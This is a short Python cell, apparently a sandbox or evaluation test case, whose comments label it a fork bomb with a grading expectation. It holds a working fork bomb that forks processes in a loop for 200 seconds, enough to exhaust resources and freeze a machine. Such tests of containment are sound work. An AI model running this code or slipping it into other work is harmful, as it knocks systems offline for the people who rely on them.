# tries: a fork bomb
# must: no point; graded or needs a person
# %% cell after setup
import os
import time

until = time.monotonic() + 200
while time.monotonic() < until:
    try:
        os.fork()
    except OSError:
        pass
